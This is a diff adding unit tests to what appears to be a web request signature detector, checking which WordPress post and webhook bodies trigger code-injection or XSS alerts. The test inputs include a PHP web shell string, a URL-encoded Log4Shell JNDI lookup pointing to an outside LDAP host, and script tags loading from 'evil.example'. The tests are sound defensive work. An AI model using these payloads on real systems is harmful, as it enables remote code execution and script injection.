@@ -764,6 +764,18 @@ Test(websig, machine_reports_quote_what_they_report)
         "");
     cr_assert_not_null(strstr(
         body_families("{\"comment\":\"<?php echo system($_GET['c']); ?>\"}", NULL), "code:"));
+    /* only the elements' content is the example: code beside them counts */
+    cr_assert_not_null(strstr(body_families("{\"content\":\"<p>See:</p><pre><code>x</code></pre>"
+                                            "<p><?php echo system($_GET['c']); ?></p>\"}",
+                                            NULL),
+                              "code:"));
+    QUIET("/wp-admin/post.php",
+          "content=%3Cp%3EThe+template%3A%3C%2Fp%3E%3Cpre%3E%7B%7B+7*7+%7D%7D%3C%2Fpre%3E", NULL);
+    FIRES(
+        "code", "/wp-admin/post.php",
+        "content=%3Cp%3EThe+template%3A%3C%2Fp%3E%3Cpre%3Ex%3C%2Fpre%3E%3Cp%3E%24%7Bjndi%3Aldap%3A"
+        "%2F%2F198.51.100.9%2Fa%7D%3C%2Fp%3E",
+        NULL);
     QUIET("/hooks", "message=Revert+%22Escape+%3Cscript%3E+in+comments%22", NULL);
     FIRES("xss", "/hooks", "message=%3Cscript%3Ealert(1)", NULL);
     FIRES("xss", "/hooks", "message=%3Cscript+src%3D//evil.example/x.js%3E", NULL);
